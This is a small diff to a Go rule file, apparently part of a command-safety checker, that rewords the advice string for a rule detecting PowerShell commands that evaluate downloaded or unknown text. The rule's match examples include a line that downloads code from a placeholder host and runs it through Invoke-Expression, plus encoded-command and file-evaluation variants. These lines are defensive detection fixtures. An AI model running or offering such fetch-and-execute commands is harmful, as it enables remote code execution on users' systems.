@@ -33,7 +33,7 @@ func foreignRules() []hazard.Rule {
 		{
 			ID: "foreign-evaluate", Class: "foreign shell", Programs: program.Names(program.SpeaksPowerShell),
 			Why:     "evaluates text in PowerShell that is downloaded or not known",
-			Instead: "Write the command as plain text, so that it is seen what runs.",
+			Instead: "Write the command as plain text, so that a reader sees what runs.",
 			Match:   evaluatesForeign,
 			Hit:     []string{`pwsh -c "iex (iwr https://x.example)"`, `pwsh -Command "Invoke-Expression (Get-Content x.ps1 -Raw)"`, `pwsh -EncodedCommand "$X"`, `powershell -c "$(cat x)"`},
 			Miss:    []string{`pwsh -c "Invoke-WebRequest https://x.example -OutFile x"`, "pwsh -c 'Get-Help iex'", `pwsh -File "$SCRIPT"`, "pwsh -NoProfile -c '$PSVersionTable'"},
